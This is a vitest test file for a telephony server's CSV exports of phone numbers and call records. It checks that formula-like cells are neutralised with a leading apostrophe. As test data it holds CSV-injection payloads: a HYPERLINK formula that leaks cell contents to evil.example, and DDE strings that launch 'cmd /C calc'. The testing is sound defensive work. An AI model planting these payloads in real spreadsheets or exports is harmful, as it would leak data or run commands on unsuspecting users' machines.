import { createRequire } from 'node:module';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestApp, type TestApp } from '../support/app.js';
import type { TenantFixture } from '../support/context.js';
import { ok } from '../support/graphql.js';
import { privacyApps } from '../support/privacy-fixtures.js';
import { partnerKey } from '../support/partner-keys.js';

// csv-parse is the server's dependency: resolve it from there rather than adding it to the tests.
const { parse: parseCsv } = createRequire(import.meta.resolve('@callplane/server'))('csv-parse/sync') as { parse: (text: string, opts: { bom: boolean; columns: true }) => Record<string, string>[] };

/**
 * N8, C2 over plain HTTP (M2's statement CSV: statements-export.test.ts): every export neutralises a cell a spreadsheet would run as a formula
 * (=, +, -, @, tab, carriage return first) with a leading apostrophe (one helper, csvCell), and
 * leaves plain numbers as numbers (an E.164 number, a negative amount).
 */

let t: TestApp;
let A: TenantFixture, B: TenantFixture;
const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';

async function csv(path: string, key: string) {
  const res = await fetch(`${t.url}${path}`, { headers: { authorization: `Bearer ${key}` } });
  expect(res.status, path).toBe(200);
  return parseCsv(await res.text(), { bom: true, columns: true });
}

beforeAll(async () => {
  t = await startTestApp();
  A = await t.tenant('Acme');
  B = await t.tenant('Beta');
  // numbers whose region cells are formulas (an OPERATOR's import is free text there)
  const rows = [
    { number: '021-6660 0001', type: 'LOCAL', province: '上海', city: FORMULA, carrier: 'CHINA_TELECOM' },
    { number: '021-6660 0002', type: 'LOCAL', province: '@SUM(1+1)*cmd|" /C calc"!A0', city: '-2+3+cmd|" /C calc"!A0', carrier: 'CHINA_TELECOM' },
    { number: '021-6660 0003', type: 'LOCAL', province: '+1+1', city: '-12.5', carrier: 'CHINA_TELECOM' },
  ];
  const r = ok(await t.gql(`mutation($rows: [NumberImportRow!]!) { importNumbers(rows: $rows) { created errors { field message } } }`, { rows }));
  expect(r.importNumbers).toEqual({ created: 3, errors: [] });
  // a CDR whose user data (the switch's, the binding's) is a formula
  const apps = await privacyApps(t, A, B);
  const key = await partnerKey(t, A, apps.app1, 'csv');
  const at = (s: number) => new Date(t.clock.now().getTime() - 600_000 + s * 1000).toISOString();
  const events = [
    { eventId: 'csv-1', callId: 'csv-call', type: 'CALLIN', occurredAt: at(0), caller: '13800000003', called: '+862155600001' },
    { eventId: 'csv-2', callId: 'csv-call', type: 'ANSWER', occurredAt: at(5) },
    { eventId: 'csv-3', callId: 'csv-call', type: 'DISCONNECT', occurredAt: at(70), userData: FORMULA },
  ];
  const stored = ok(await t.gql(`mutation($events: [CallEventInput!]!) { reportCallEvents(events: $events) { status } }`, { events }, key)).reportCallEvents;
  expect(stored.map((s: { status: string }) => s.status)).toEqual(['STORED', 'STORED', 'STORED']);
});
afterAll(() => t?.stop());

describe('N8/C2: formula cells in the CSV exports', () => {
  it('N8: numbers.csv prefixes a number’s formula-like cells with an apostrophe; the E.164 number (+86…) stays as it is', async () => {
    const rows = (await csv('/exports/numbers.csv?status=AVAILABLE', t.operatorKey)).filter((r) => r.e164.startsWith('+86216660'));
    expect(rows.map((r) => [r.e164, r.province, r.city]).sort()).toEqual([
      ['+862166600001', '上海', `'${FORMULA}`],
      ['+862166600002', `'@SUM(1+1)*cmd|" /C calc"!A0`, `'-2+3+cmd|" /C calc"!A0`],
      // a plain signed decimal runs nothing: it stays a number
      ['+862166600003', "'+1+1", '-12.5'],
    ]);
  });

  it('C2: cdrs.csv prefixes a CDR’s formula-like user data with an apostrophe; numbers and minutes stay numbers', async () => {
    const [cdr, ...more] = (await csv('/exports/cdrs.csv', A.keys.admin)).filter((r) => r.switch_call_id === 'csv-call');
    expect(more).toEqual([]);
    expect(cdr).toMatchObject({ user_data: `'${FORMULA}`, x: '+862155600001', caller: '+8613800000003', billable_minutes: '2' });
  });
});
